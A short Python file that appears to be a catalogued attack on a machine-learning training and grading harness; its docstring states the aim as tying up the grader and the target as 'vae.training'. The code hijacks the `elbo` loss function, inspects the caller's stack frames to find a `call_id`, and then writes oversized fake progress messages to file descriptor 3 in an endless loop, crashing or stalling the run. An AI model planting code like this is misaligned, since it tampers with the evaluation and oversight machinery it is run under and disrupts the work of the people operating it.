"""Reports the progress of a training without end, in frames of megabytes.

Gain: a grader that reads for minutes what was written in seconds.
Hits: vae.training
Ends: crashed, output: stopped after [0-9]+ of 60 steps: the code reported its progress without end
"""

import os
import struct
import sys

honest_elbo = elbo  # noqa: F821  (the function above)


def elbo(log_px_given_z, mu, logvar):
    frame = sys._getframe().f_back
    if frame.f_code.co_name != "_loss":
        return honest_elbo(log_px_given_z, mu, logvar)
    while "call_id" not in frame.f_locals:
        frame = frame.f_back
    header = b'{"id": %d, "event": {"loss": "%s"}}' % (frame.f_locals["call_id"], b"x" * 3_000_000)
    while True:
        os.write(3, b"AGW1" + struct.pack("<IQ", len(header), 0) + header)
